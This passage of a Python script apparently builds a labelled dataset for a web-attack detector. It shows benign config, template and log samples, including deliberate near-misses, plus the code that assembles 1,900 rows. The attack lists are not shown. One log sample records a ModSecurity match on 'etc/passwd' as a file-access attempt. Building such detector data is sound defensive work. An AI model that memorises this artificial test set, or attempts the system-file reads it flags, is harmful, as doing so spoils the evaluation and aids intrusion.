            "[Unit]\nDescription=App worker\nAfter=network.target\n\n[Service]\nExecStart=/usr/bin/python3 -m gunicorn app:app -b 127.0.0.1:8000\nRestart=always\nUser=www-data\n\n[Install]\nWantedBy=multi-user.target\n",
            "multipart",
            mp="file",
            fname="app.service",
            fctype="text/plain",
            field="file",
            ep="/api/repos/files",
        ),
        B(
            "*/5 * * * * /usr/local/bin/backup.sh > /dev/null 2>&1\n0 3 * * 0 find /var/log/app -name '*.gz' -mtime +30 -delete\n",
            "json",
            param="crontab",
            ep="/api/servers/12/cron",
        ),
        B(
            "<VirtualHost *:80>\n    ServerName www.example.com\n    DocumentRoot /var/www/html\n    <Directory /var/www/html>\n        AllowOverride All\n    </Directory>\n</VirtualHost>\n",
            "form",
            param="vhost",
            ep="/admin/hosting/vhosts",
        ),
        B(
            "RewriteEngine On\nRewriteCond %{HTTPS} off\nRewriteRule ^(.*)$ https://%{HTTP_HOST}/$1 [R=301,L]\n",
            "json",
            param="htaccess",
            ep="/api/hosting/rewrite",
        ),
        B(
            'services:\n  web:\n    build: .\n    command: sh -c "python manage.py migrate && gunicorn app.wsgi"\n    ports:\n      - "8000:8000"\n    volumes:\n      - ./:/app\n',
            "multipart",
            mp="file",
            fname="docker-compose.yml",
            fctype="application/x-yaml",
            field="file",
            ep="/api/repos/files",
        ),
        B(
            'FROM python:3.12-slim\nWORKDIR /app\nCOPY . .\nRUN pip install -r requirements.txt\nCMD ["gunicorn", "-b", "0.0.0.0:8000", "app:app"]\n',
            "multipart",
            mp="file",
            fname="Dockerfile",
            fctype="text/plain",
            field="file",
            ep="/api/repos/files",
        ),
        B(
            'apiVersion: v1\nkind: Pod\nmetadata:\n  name: debug\nspec:\n  containers:\n    - name: shell\n      image: busybox\n      command: ["sh", "-c", "sleep 3600"]\n',
            "json",
            param="manifest",
            ep="/api/k8s/validate",
        ),
        B(
            "example.com {\n    reverse_proxy localhost:3000\n    encode gzip\n    log {\n        output file /var/log/caddy/access.log\n    }\n}\n",
            "json",
            param="caddyfile",
            ep="/api/support/attachments",
        ),
        B(
            "[mysqld]\nbind-address = 127.0.0.1\nsql_mode = STRICT_TRANS_TABLES,NO_ENGINE_SUBSTITUTION\nlocal_infile = 0\n",
            "form",
            param="my_cnf",
            ep="/admin/db/config",
        ),
        B(
            "ldap:\n  url: ldaps://ldap.corp.example:636\n  base_dn: dc=corp,dc=example\n  user_filter: (&(objectClass=person)(uid={username}))\n",
            "json",
            param="auth_yaml",
            ep="/api/settings/auth",
        ),
        B(
            "Host bastion\n    HostName 203.0.113.10\n    User deploy\n    IdentityFile ~/.ssh/id_ed25519\n    ProxyCommand none\n",
            "json",
            param="ssh_config",
            ep="/api/support/attachments",
        ),
        B(
            "upstream backend {\n    server 10.0.1.11:8080;\n    server 10.0.1.12:8080;\n}\n",
            "json",
            param="snippet",
            ep="/api/lb/config",
        ),
        B(
            "logging:\n  level:\n    org.springframework.web: DEBUG\nspring:\n  datasource:\n    url: jdbc:postgresql://localhost:5432/shop\n",
            "multipart",
            mp="file",
            fname="application.yml",
            fctype="application/x-yaml",
            field="file",
            ep="/api/repos/files",
        ),
        B(
            "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\nSHELL=/bin/bash\n",
            "json",
            param="cron_env",
            ep="/api/servers/12/cron",
        ),
        B(
            "[program:worker]\ncommand=/srv/app/venv/bin/celery -A app worker -l info\nautorestart=true\n",
            "form",
            param="supervisor_conf",
            ep="/admin/hosting/processes",
        ),
        B(
            "add_header Content-Security-Policy \"default-src 'self'; script-src 'self' https://cdn.example.com\";\n",
            "json",
            param="header_rule",
            ep="/api/hosting/headers",
        ),
        B(
            "git config --global core.autocrlf input\ngit config --global pull.rebase true\n",
            "json",
            param="setup_script",
            ep="/api/devboxes",
        ),
        B(
            "include /etc/nginx/conf.d/*.conf;\nclient_max_body_size 20m;\n",
            "json",
            param="nginx_global",
            ep="/api/hosting/nginx",
        ),
        B(
            'variables:\n  GREETING: "Hello ${CI_COMMIT_AUTHOR}"\nscript:\n  - echo "$GREETING"\n',
            "multipart",
            mp="file",
            fname=".gitlab-ci.yml",
            fctype="application/x-yaml",
            field="file",
            ep="/api/repos/files",
        ),
        B(
            "ProxyPass /app http://localhost:8080/app\nProxyPassReverse /app http://localhost:8080/app\n",
            "json",
            param="apache_snippet",
            ep="/api/hosting/proxy",
        ),
        B(
            "[alias]\n    lg = log --graph --oneline --decorate\n    undo = reset --soft HEAD~1\n",
            "json",
            param="gitconfig",
            ep="/api/dotfiles",
        ),
    ]
    return H, N


def gen_templates():
    H, N = [], []
    plain = [
        "Thanks for your order!",
        "Your appointment is confirmed.",
        "We received your return.",
        "Your password was changed.",
        "Your subscription renews soon.",
        "Welcome to the community!",
        "Your parcel is out for delivery.",
        "Your invoice is ready.",
        "Your ticket has been updated.",
        "Your trial ends in 3 days.",
    ]
    for i, t in enumerate(plain):
        N.append(t + " " + R.choice(SENTENCES))
        N.append(
            "%s\n\n%s\n\nThe %s team" % (t, R.choice(SENTENCES), R.choice(["Northwind", "Acme", "Globex", "Fabrikam"]))
        )
    for key in [
        "checkout.title",
        "cart.empty",
        "profile.save",
        "errors.network",
        "orders.none",
        "nav.home",
        "footer.rights",
        "auth.logout",
        "search.placeholder",
        "settings.saved",
    ]:
        N.append(
            B(
                R.choice(
                    [
                        "Checkout",
                        "Your cart is empty",
                        "Save changes",
                        "Network error, please retry",
                        "No orders yet",
                        "Home",
                        "All rights reserved",
                        "Log out",
                        "Search products",
                        "Settings saved",
                    ]
                )
                + " ("
                + key
                + ")",
                "json",
                ep="/api/i18n/strings",
                doc={"key": key, "locale": "en", "value": MARK},
            )
        )
    H += [
        'Hi {{first_name}}, your order #{{order.id}} has shipped and should arrive by {{order.eta | date: "%b %d"}}.',
        "{% if user.is_premium %}Thanks for being a Premium member!{% else %}Upgrade today and save 20%.{% endif %}",
        "{{#items}}\n- {{name}} x {{qty}}: {{price}}\n{{/items}}\nTotal: {{total}}",
        "Hello, {name}! You have {count, plural, one {# new message} other {# new messages}}.",
        "Dear ${firstName} ${lastName}, your policy ${policyNumber} renews on ${renewalDate}.",
        "Hi {{ .Name }}, your build {{ .Build.ID }} finished with status {{ .Build.Status }}.",
        "<%= @user.name %>, your reservation for <%= @booking.date.strftime('%d %B') %> is confirmed.",
        "{{> header}}\n<p>Hi {{customer.firstName}},</p>\n{{> footer}}",
        "{% for line in invoice.lines %}{{ line.description }}: {{ line.amount|currency }}\n{% endfor %}",
        "Hi *|FNAME|*, here is your *|MC:DATE|* digest.",
        "Hi %recipient.first_name%, click here to confirm: %recipient.confirm_url%",
        "{{ 'welcome.title' | t }} {{ customer.first_name | capitalize }}",
        "#set($total = $order.total)\nYour total is $total EUR.",
        "<#if user.vip>VIP support line: ${supportPhone}</#if>",
        "[[${user.displayName}]], you have [[${notifications.size()}]] notifications.",
        "@Model.CustomerName, your order @Model.OrderId is on its way.",
        "Hello {{=it.name}}, your code is {{=it.code}}.",
        "Hi <%- user.firstName %>, reset your password here: <%= resetUrl %>",
        "{{#if (gt cart.items.length 0)}}You left {{cart.items.length}} items in your cart.{{/if}}",
        'Hi {{ user.name | default: "there" }}, {{ \'now\' | date: "%Y" }} recap is ready!',
        "{{ range .Items }}- {{ .Title }}\n{{ end }}",
        'Invoice {{invoice.number}} - due {{invoice.due_date|date:"d M Y"}}',
        "Your verification code is {{code}}. It expires in {{ttl_minutes}} minutes.",
        "{% raw %}{{ this is not rendered }}{% endraw %}",
        "Hey {{ contact.first_name }}, see {{ links.docs }}/getting-started?ref={{ campaign.id }}",
    ]
    return H, N


def gen_logs():
    H, N = [], []
    for i in range(16):
        ts = "2026-12-07T%02d:%02d:%02d.%03dZ" % (
            R.randint(0, 23),
            R.randint(0, 59),
            R.randint(0, 59),
            R.randint(0, 999),
        )
        ev = R.choice(
            [
                ("INFO", "order created", {"orderId": R.randint(1000, 99999)}),
                ("WARN", "slow query", {"ms": R.randint(500, 5000)}),
                ("INFO", "user signed in", {"userId": R.randint(1, 99999)}),
                ("ERROR", "payment declined", {"code": "card_declined"}),
                ("DEBUG", "cache miss", {"key": "product:%d" % R.randint(1, 9999)}),
                ("INFO", "email queued", {"template": "welcome"}),
            ]
        )
        line = compact(
            dict({"ts": ts, "level": ev[0], "msg": ev[1], "service": R.choice(["api", "worker", "web"])}, **ev[2])
        )
        N.append(B(line, "json", jobj=True, ep="/api/v1/logs/ingest", doc={"events": [MARK]}, style="api"))
    for i in range(16):
        ip = "%d.%d.%d.%d" % (R.randint(1, 223), R.randint(0, 255), R.randint(0, 255), R.randint(1, 254))
        pth = R.choice(
            [
                "/",
                "/products/42",
                "/api/v2/cart",
                "/static/app.3f9c1b.js",
                "/blog/winter-sale",
                "/favicon.ico",
                "/login",
            ]
        )
        N.append(
            '%s - - [07/Dec/2026:%02d:%02d:%02d +0100] "GET %s HTTP/2.0" %d %d "-" "%s"'
            % (
                ip,
                R.randint(0, 23),
                R.randint(0, 59),
                R.randint(0, 59),
                pth,
                R.choice([200, 200, 304, 404]),
                R.randint(200, 90000),
                R.choice(UAS["chrome"]),
            )
        )
    for i in range(10):
        N.append(
            "%s [%s] %s - %s"
            % (
                "2026-12-07 %02d:%02d:%02d,%03d"
                % (R.randint(0, 23), R.randint(0, 59), R.randint(0, 59), R.randint(0, 999)),
                R.choice(["main", "pool-2-thread-7", "http-nio-8080-exec-3", "scheduler-1"]),
                R.choice(["INFO", "WARN", "DEBUG"]),
                R.choice(SENTENCES),
            )
        )
    H += [
        'Exception in thread "main" java.lang.NullPointerException: Cannot invoke "String.length()" because "name" is null\n'
        "\tat com.example.orders.OrderService.validate(OrderService.java:118)\n\tat com.example.orders.OrderController.create(OrderController.java:54)\n"
        "\tat org.springframework.web.servlet.FrameworkServlet.service(FrameworkServlet.java:885)\n",
        'Traceback (most recent call last):\n  File "/app/worker.py", line 42, in run\n    result = subprocess.run(cmd, check=True)\n'
        '  File "/usr/lib/python3.12/subprocess.py", line 571, in run\n    raise CalledProcessError(retcode, process.args)\n'
        "subprocess.CalledProcessError: Command '['pg_dump', 'shop']' returned non-zero exit status 1.\n",
        'ERROR:  syntax error at or near "SELECT"\nLINE 1: SELECT * FROM orders WHERE id = 1 SELECT\n                                         ^\n',
        '203.0.113.50 - - [07/Dec/2026:22:10:03 +0100] "GET /index.php?page=contact&lang=de HTTP/1.1" 200 5123 "-" "Mozilla/5.0"',
        "2026/12/07 22:14:51 [error] 1234#1234: *88 connect() failed (111: Connection refused) while connecting to upstream, client: 198.51.100.7, "
        'server: app.example.com, request: "GET /api/health HTTP/1.1", upstream: "http://127.0.0.1:8000/api/health", host: "app.example.com"',
        "Dec  7 22:20:01 web01 CRON[5512]: (root) CMD (/usr/local/bin/backup.sh > /dev/null 2>&1)",
        "Dec  7 22:31:44 web01 sshd[7781]: Failed password for invalid user admin from 192.0.2.55 port 50122 ssh2",
        "WARN  [ldap] search failed for filter (&(objectClass=person)(uid=ana.silva)): timeout after 5000ms",
        "TypeError: Cannot read properties of undefined (reading 'map')\n    at ProductList (webpack-internal:///./src/ProductList.jsx:12:23)\n    at renderWithHooks (react-dom.development.js:16305:18)",
        "PHP Warning:  include(/var/www/html/partials/header.php): Failed to open stream: No such file or directory in /var/www/html/index.php on line 7",
        "[2026-12-07 22:40:12] production.ERROR: SQLSTATE[23000]: Integrity constraint violation: 1062 Duplicate entry 'ana@example.com' for key 'users_email_unique'",
        'level=warn ts=2026-12-07T21:50:00Z caller=scrape.go:1234 msg="scrape failed" target=http://10.0.3.4:9100/metrics err="context deadline exceeded"',
        'ModSecurity: Warning. Matched phrase "etc/passwd" at ARGS:file. [id "930120"] [msg "OS File Access Attempt"] [hostname "shop.example.com"] [uri "/download"]',
        "kernel: [ 8812.331] Out of memory: Killed process 3321 (java) total-vm:8123456kB, anon-rss:4012345kB",
        "2026-12-07 22:55:10 UTC [4411]: user=app,db=shop LOG:  duration: 1532.2 ms  statement: SELECT * FROM orders WHERE status = 'pending' ORDER BY created_at",
        "fatal: unable to access 'https://git.example.com/team/repo.git/': Could not resolve host: git.example.com",
        "Caused by: org.hibernate.exception.SQLGrammarException: could not execute query\n\tat org.hibernate.exception.internal.SQLStateConversionDelegate.convert(SQLStateConversionDelegate.java:103)",
        '{"level":"error","msg":"template render failed","template":"Hi {{ name }}","err":"undefined variable: name"}',
        '127.0.0.1 - - [07/Dec/2026:23:01:17 +0100] "POST /graphql HTTP/1.1" 200 812 "http://localhost:3000/" "Mozilla/5.0"',
        "docker: Error response from daemon: driver failed programming external connectivity on endpoint web (0.0.0.0:8080): port is already allocated.",
        "System.IO.FileNotFoundException: Could not find file 'C:\\inetpub\\wwwroot\\App_Data\\settings.json'.\n   at System.IO.FileStream.ValidateFileHandle(SafeFileHandle fileHandle)",
        "npm ERR! code ERESOLVE\nnpm ERR! ERESOLVE unable to resolve dependency tree\nnpm ERR! Found: react@18.3.1",
        "WARN  Deprecated: ${project.version} placeholder in pom.xml, use ${revision}",
        "2026-12-07T23:05:59Z audit user=ana action=DELETE resource=/api/v1/projects/12 status=204",
    ]
    return H, N


BENIGN_GENS = {
    "benign_richtext": gen_richtext,
    "benign_markdown": gen_markdown,
    "benign_code": gen_code,
    "benign_search": gen_search,
    "benign_graphql": gen_graphql,
    "benign_files": gen_files,
    "benign_urls": gen_urls,
    "benign_base64": gen_base64,
    "benign_api_json": gen_api_json,
    "benign_forms": gen_forms,
    "benign_headers": gen_headers,
    "benign_email": gen_email,
    "benign_config": gen_config,
    "benign_templates": gen_templates,
    "benign_logs": gen_logs,
}


def extra_normals(kind):
    """More ordinary rows for kinds whose hand-written lists are short."""
    out = []
    if kind == "benign_graphql":
        for ent, fields in [
            ("customer", "id firstName lastName email"),
            ("shipment", "id carrier trackingNumber status"),
            ("review", "id rating body author { name }"),
            ("coupon", "id code percentOff expiresAt"),
            ("warehouse", "id name city capacity"),
            ("playlist", "id title tracks { id title }"),
        ]:
            T = ent[0].upper() + ent[1:]
            out.append("query Get%s($id: ID!) {\n  %s(id: $id) {\n    %s\n  }\n}" % (T, ent, fields))
            out.append("query Recent%ss {\n  %ss(last: 10) {\n    nodes { %s }\n  }\n}" % (T, ent, fields))
            out.append(
                "mutation Create%s($input: Create%sInput!) {\n  create%s(input: $input) { %s { id } }\n}"
                % (T, T, T, ent)
            )
    elif kind == "benign_files":
        for i in range(16):
            out.append(
                B(
                    "%s-%s-%d.%s"
                    % (
                        R.choice(["holiday", "family", "project", "client", "board", "garden"]),
                        R.choice(["notes", "plan", "list", "summary", "minutes"]),
                        R.randint(1, 999),
                        R.choice(["txt", "md", "csv"]),
                    ),
                    "multipart",
                    mp="filename",
                    field="file",
                    fctype="text/plain",
                    fcontent="notes\n",
                    ep="/api/drive/upload",
                )
            )
    elif kind == "benign_urls":
        slugs = [
            "espresso-machine-x200",
            "trail-runner-3",
            "oak-desk-140",
            "wool-scarf-grey",
            "usb-c-hub-7in1",
            "linen-shirt-blue",
            "yoga-mat-pro",
        ]
        for s in slugs:
            out.append(
                B(
                    "https://shop.example.com/p/%s?ref=%s" % (s, R.choice(["home", "email", "search", "ad"])),
                    R.choice(["json", "form"]),
                    param=R.choice(["url", "link", "productUrl"]),
                    ep=R.choice(["/api/wishlist", "/share/new", "/api/bookmarks"]),
                )
            )
        for p_ in [
            "/settings/notifications",
            "/billing/invoices?year=2026",
            "/team/members",
            "/integrations/slack",
            "/help/articles/312",
            "/checkout/review",
            "/events/2026/berlin",
            "/u/ana.silva",
            "/library/loans",
            "/messages/thread/8812",
        ]:
            out.append(
                B(
                    p_,
                    "query",
                    param=R.choice(["next", "return_to", "redirect_uri", "from"]),
                    ep=R.choice(["/login", "/sso/start", "/auth/signin"]),
                )
            )
        for d in [
            "blog.example.net/2026/11/roadmap",
            "www.example.org/about-us",
            "news.example.com/tech/ai-regulation-2026",
            "careers.example.com/jobs/4412",
            "example.com/pricing#enterprise",
            "docs.example.com/api/v2/authentication",
        ]:
            out.append(
                B(
                    "https://" + d,
                    "json",
                    param=R.choice(["url", "canonicalUrl", "sourceUrl"]),
                    ep=R.choice(["/api/cms/pages", "/api/feeds", "/api/bookmarks"]),
                )
            )
    elif kind == "benign_headers":
        for ua in UAS["firefox"] + UAS["safari"]:
            out.append(B(ua, "header", hdr="User-Agent", ep=R.choice(["/", "/pricing", "/blog/"])))
        for i in range(6):
            out.append(
                B(
                    uuid4(),
                    "header",
                    hdr=R.choice(["X-Request-ID", "X-Correlation-ID", "Idempotency-Key"]),
                    style="api",
                    ep="/api/v2/payments",
                )
            )
        for i in range(4):
            out.append(
                B(
                    "%s-%s"
                    % (
                        R.choice(["web", "ios", "android"]),
                        R.choice(["5.12.0", "5.11.3", "2026.12.1", "4.0.0-beta.2"]),
                    ),
                    "header",
                    hdr="X-Client-Version",
                    style="api",
                )
            )
    elif kind == "benign_email":
        for i in range(14):
            f = R.choice(
                ["ana", "wei", "priya", "lukas", "sofia", "mateo", "aisha", "jonas", "yuki", "olga", "liam", "noah"]
            )
            out.append(
                B(
                    "%s%s@%s"
                    % (
                        f,
                        R.choice(["", ".k", "_2026", "+shop", "-work"]),
                        R.choice(["example.com", "example.org", "mail.example.net", "uni.example.edu"]),
                    ),
                    R.choice(["form", "json"]),
                    param=R.choice(["email", "contact_email", "billingEmail"]),
                    ep=R.choice(["/checkout/contact", "/api/users/me", "/signup"]),
                )
            )
    elif kind == "benign_config":
        for i in range(8):
            out.append(
                B(
                    '# generated %d\n[server]\nport = %d\nworkers = %d\n\n[logging]\nlevel = "%s"\n'
                    % (i, R.choice([8080, 9000, 3000]), R.randint(2, 16), R.choice(["info", "warn"])),
                    R.choice(["json", "multipart"]),
                    param="config_toml",
                    mp="file",
                    fname="app.toml",
                    fctype="application/toml",
                    ep="/api/apps/config",
                )
            )
    elif kind == "benign_templates":
        subjects = [
            "Your receipt from {store}",
            "Reminder: {event} starts tomorrow",
            "{name} invited you to {project}",
            "Action required: verify your email",
            "Your weekly summary",
            "We miss you",
            "New login from {device}",
            "Your order is on its way",
            "Payment failed for {plan}",
            "Welcome to {product}",
        ]
        for s_ in subjects:
            out.append(
                B(
                    s_,
                    "json",
                    ep="/api/notifications/templates",
                    doc={"channel": "email", "subject": MARK, "locale": R.choice(["en", "en-GB"])},
                )
            )
        for i in range(16):
            out.append(
                B("%s Reply STOP to opt out." % R.choice(SENTENCES), "json", param="smsText", ep="/api/sms/templates")
            )
    elif kind == "benign_logs":
        for i in range(10):
            out.append(
                B(
                    "%s %s %s"
                    % (
                        "2026-12-07T%02d:%02d:%02dZ" % (R.randint(0, 23), R.randint(0, 59), R.randint(0, 59)),
                        R.choice(["job=nightly-export", "job=thumbnailer", "job=mailer", "job=reindex"]),
                        R.choice(
                            [
                                "started",
                                "finished in %ds" % R.randint(2, 900),
                                "retrying (attempt %d/5)" % R.randint(1, 5),
                            ]
                        ),
                    ),
                    "json",
                    param="line",
                    ep="/api/v1/logs/ingest",
                    style="api",
                )
            )
    elif kind == "benign_code":
        for lang, tmpl in [
            ("sql", "CREATE INDEX idx_%s_%s ON %s (%s);\n"),
            ("sql", "ALTER TABLE %s ADD COLUMN %s_id bigint REFERENCES %s(%s);\n"),
        ]:
            for t in ["orders", "invoices", "customers", "events"]:
                c = R.choice(["created_at", "status", "email", "tenant_id"])
                out.append(tmpl % (t, c, t, c) if "INDEX" in tmpl else tmpl % (t, c.split("_")[0], t, "id"))
    return out


GQL_SAMPLE = {
    "ID": lambda: str(R.randint(1, 99999)),
    "Int": lambda: R.choice([10, 20, 50]),
    "String": lambda: R.choice(["winter boots", "ana@example.com", "abc"]),
    "Boolean": lambda: R.choice([True, False]),
    "URL": lambda: "https://example.com/article/42",
    "JSON": lambda: {},
}


def gql_vars(q):
    out = {}
    import re

    for name, typ in re.findall(r"\$(\w+)\s*:\s*\[?(\w+)", q):
        if typ in GQL_SAMPLE:
            out[name] = GQL_SAMPLE[typ]()
        elif typ == "Upload":
            out[name] = None
        elif typ.endswith("Input") or typ.endswith("Filter"):
            out[name] = {"name": "Quarterly sync"} if typ.endswith("Input") else {"status": "OPEN"}
        else:
            out[name] = "x"
    return out


BCTX = {
    "benign_richtext": dict(
        eps=["/api/v1/posts", "/api/comments", "/admin/posts/new"], params=["content", "body", "description"]
    ),
    "benign_markdown": dict(
        eps=["/api/v3/repos/acme/web/issues", "/projects/42/comments"], params=["body", "description"]
    ),
    "benign_code": dict(eps=["/api/gists", "/api/format", "/paste"], params=["code", "source", "snippet"]),
    "benign_search": dict(
        eps=["/search", "/api/search", "/docs/search", "/shop/search", "/help/search"],
        params=["q", "query", "term", "search"],
    ),
    "benign_graphql": dict(eps=["/graphql", "/api/graphql", "/v1/graphql"], params=["query"]),
    "benign_files": dict(eps=["/api/v1/files", "/upload"], params=["file"]),
    "benign_urls": dict(eps=["/api/bookmarks"], params=["url"]),
    "benign_base64": dict(eps=["/api/v1/attachments"], params=["data"]),
    "benign_api_json": dict(eps=["/api/v2/orders", "/api/users/me", "/api/v1/projects"], params=["value"]),
    "benign_forms": dict(eps=["/contact", "/signup"], params=["message"]),
    "benign_headers": dict(eps=["/", "/api/v1/status", "/products", "/blog/"], params=["x"]),
    "benign_email": dict(eps=["/contact"], params=["email"]),
    "benign_config": dict(eps=["/api/support/attachments", "/api/repos/files"], params=["content"]),
    "benign_templates": dict(eps=["/api/notifications/templates"], params=["body"]),
    "benign_logs": dict(eps=["/api/v1/logs/ingest"], params=["message"]),
}


def place(kind, p):
    r = R.random()
    if kind == "benign_richtext":
        if r < 0.45:
            return B(
                p,
                "json",
                ep=R.choice(["/api/v1/posts", "/api/comments", "/api/pages/12/blocks"]),
                doc=R.choice(
                    [
                        {"post": {"title": R.choice(TITLES), "body_html": MARK, "status": "draft"}},
                        {"comment": {"body": MARK, "parentId": None}},
                        {"content": MARK, "format": "html", "version": R.randint(2, 40)},
                    ]
                ),
            )
        if r < 0.8:
            return B(
                p,
                "form",
                ep=R.choice(["/admin/posts/new", "/wp-admin/post.php", "/cms/pages/12/edit"]),
                fields=[("title", R.choice(TITLES)), ("content", MARK), ("_token", rand_alnum(40))],
            )
        return B(p, "multipart", mp="field", param="description", ep="/admin/products/12/edit")
    if kind == "benign_markdown":
        if r < 0.5:
            return B(
                p,
                "json",
                ep="/api/v3/repos/acme/web/issues",
                doc={"title": p.split("\n")[0].lstrip("#> ")[:60] or "Issue", "body": MARK, "labels": ["triage"]},
            )
        if r < 0.75:
            return B(
                p, "json", ep="/api/v3/repos/acme/web/issues/%d/comments" % R.randint(10, 2000), doc={"body": MARK}
            )
        if r < 0.92:
            return B(
                p,
                "form",
                ep="/projects/42/comments",
                fields=[("comment[body]", MARK), ("authenticity_token", rand_alnum(43))],
            )
        return B(p, "multipart", mp="field", param="readme", ep="/api/projects/42/docs")
    if kind == "benign_code":
        if r < 0.35:
            return B(
                p,
                "json",
                ep="/api/gists",
                doc={
                    "description": "snippet",
                    "public": False,
                    "files": {R.choice(["snippet.txt", "example.py", "util.js", "query.sql"]): {"content": MARK}},
                },
            )
        if r < 0.55:
            return B(
                p,
                "json",
                ep="/api/format",
                doc={"language": R.choice(["python", "javascript", "go", "java", "sql", "bash"]), "source": MARK},
            )
        if r < 0.7:
            return B(
                p,
                "json",
                ep="/api/notebooks/8/cells",
                doc={"cells": [{"cell_type": "code", "source": MARK, "outputs": []}]},
            )
        if r < 0.85:
            return B(p, "form", ep="/paste", fields=[("title", "untitled"), ("code", MARK), ("expiry", "1w")])
        return B(
            p,
            "multipart",
            mp="file",
            fname=R.choice(["main.py", "index.js", "query.sql", "Service.java", "handler.go"]),
            fctype="text/plain",
            field="file",
            ep="/api/review/uploads",
        )
    if kind == "benign_search":
        if r < 0.75:
            return B(p, "query", param=R.choice(["q", "q", "query", "search", "term"]), ep=R.choice(BCTX[kind]["eps"]))
        if r < 0.9:
            return B(p, "json", ep="/api/search", doc={"query": MARK, "page": 1, "filters": {}})
        return B(p, "form", param="q", ep="/search")
    if kind == "benign_graphql":
        if r < 0.15 and len(p) < 400 and not p.startswith("mutation"):
            return B(p, "query", param="query", ep="/graphql")
        op = None
        import re

        m = re.match(r"\s*(query|mutation|subscription)\s+(\w+)", p)
        doc = {"query": MARK, "variables": gql_vars(p)}
        if m:
            doc = {"operationName": m.group(2), "query": MARK, "variables": gql_vars(p)}
        return B(p, "json", ep=R.choice(BCTX[kind]["eps"]), doc=doc)
    if kind == "benign_templates":
        if r < 0.7:
            return B(
                p,
                "json",
                ep="/api/notifications/templates",
                doc={
                    "name": R.choice(["order_shipped", "welcome", "reminder", "receipt", "digest"]),
                    "channel": R.choice(["email", "push"]),
                    "body": MARK,
                },
            )
        return B(
            p,
            "form",
            ep="/admin/email-templates/%d/edit" % R.randint(1, 30),
            fields=[("subject", "Notification"), ("template_body", MARK)],
        )
    if kind == "benign_logs":
        if r < 0.45:
            return B(
                p,
                "json",
                ep="/api/v1/logs/ingest",
                doc={"source": R.choice(["web-01", "worker-3", "api-gw"]), "level": "error", "message": MARK},
                style="api",
            )
        if r < 0.75:
            return B(
                p, "form", ep="/support/ticket", fields=[("subject", "Error after upgrade"), ("log_excerpt", MARK)]
            )
        return B(
            p,
            "multipart",
            mp="file",
            fname=R.choice(["app.log", "error.log", "output.txt"]),
            fctype="text/plain",
            field="attachment",
            ep="/support/attachments",
        )
    if kind == "benign_email":
        return B(p, "form", param="message", ep="/contact")
    raise ValueError(kind)


def benign_specs(kind, n):
    H, N = BENIGN_GENS[kind]()
    N = N + extra_normals(kind)
    conv = lambda lst: [x if isinstance(x, dict) else place(kind, x) for x in lst]
    H, N = conv(H), conv(N)
    for s in H:
        s["h"] = True
    for s in N:
        s["h"] = False
    return H, N


# --------------------------------------------------------------------------
# assembly
# --------------------------------------------------------------------------
def norm_payload(spec):
    if spec["o"].get("jobj"):
        return compact(json.loads(spec["p"]))
    return spec["p"]


def make_row(rid, label, cat, spec, style, ctx):
    r = build(ctx, spec, style, benign=(label == "benign"))
    row = {
        "id": rid,
        "label": label,
        "category": cat,
        "method": r["method"],
        "path": r["path"],
        "query": r["query"],
        "headers": r["headers"],
        "body": r["body"],
        "placement": r["placement"],
        "payload": r["payload"],
        "hard": bool(spec["h"]),
        "source": SOURCE,
    }
    verify(row, spec)
    return row


def main():
    rows = []
    attack_payloads = set()
    for cat in ATTACK_CATS:
        specs = ATTACKS[cat]
        assert len(specs) == 50, (cat, len(specs))
        assert sum(1 for s in specs if s["h"]) == 20, cat
        terse = set(R.sample(range(50), 12))
        for i, spec in enumerate(specs):
            style = spec["o"].get("style") or ("terse" if i in terse else ("browser" if R.random() < 0.8 else "api"))
            row = make_row("%s-a-%s-%04d" % (SOURCE, cat, i + 1), "attack", cat, spec, style, CTX[cat])
            assert row["payload"] not in attack_payloads, ("dup attack payload", row["payload"])
            attack_payloads.add(row["payload"])
            rows.append(row)
    benign_payloads = set()
    for k_i, kind in enumerate(BENIGN_KINDS):
        n = 74 if k_i < 5 else 73
        nh = 25 if n == 74 else 24
        H, N = benign_specs(kind, n)
        R.shuffle(H)
        R.shuffle(N)
        chosen, seen = [], set()
        for pool, want in ((H, nh), (N, n - nh)):
            got = 0
            for s in pool:
                if got == want:
                    break
                key = norm_payload(s)
                if key in seen or key in benign_payloads or key in attack_payloads:
                    continue
                seen.add(key)
                chosen.append(s)
                got += 1
            assert got == want, (kind, got, want)
        R.shuffle(chosen)
        for i, spec in enumerate(chosen):
            r_ = R.random()
            style = spec["o"].get("style") or ("browser" if r_ < 0.79 else ("api" if r_ < 0.96 else "terse"))
            row = make_row("%s-b-%s-%04d" % (SOURCE, kind, i + 1), "benign", kind, spec, style, BCTX[kind])
            assert row["payload"] not in benign_payloads and row["payload"] not in attack_payloads, row["payload"]
            benign_payloads.add(row["payload"])
            rows.append(row)

    # final checks
    assert len(rows) == 1900
    for row in rows:
        ct = row["headers"].get("Content-Type", "")
        if row["body"] and ct.startswith("application/json"):
            json.loads(row["body"])
        if row["label"] == "benign" and row["body"] and ("xml" in ct):
            ET.fromstring(row["body"].encode("utf-8"))
        if row["placement"] == "xml" and row["payload"] != row["body"]:
            ET.fromstring(row["body"].encode("utf-8"))
    with open(OUT, "w", encoding="utf-8", newline="\n") as fh:
        for row in rows:
            fh.write(json.dumps(row, ensure_ascii=False) + "\n")
    print("wrote %d rows to %s" % (len(rows), OUT))


if __name__ == "__main__":
    main()
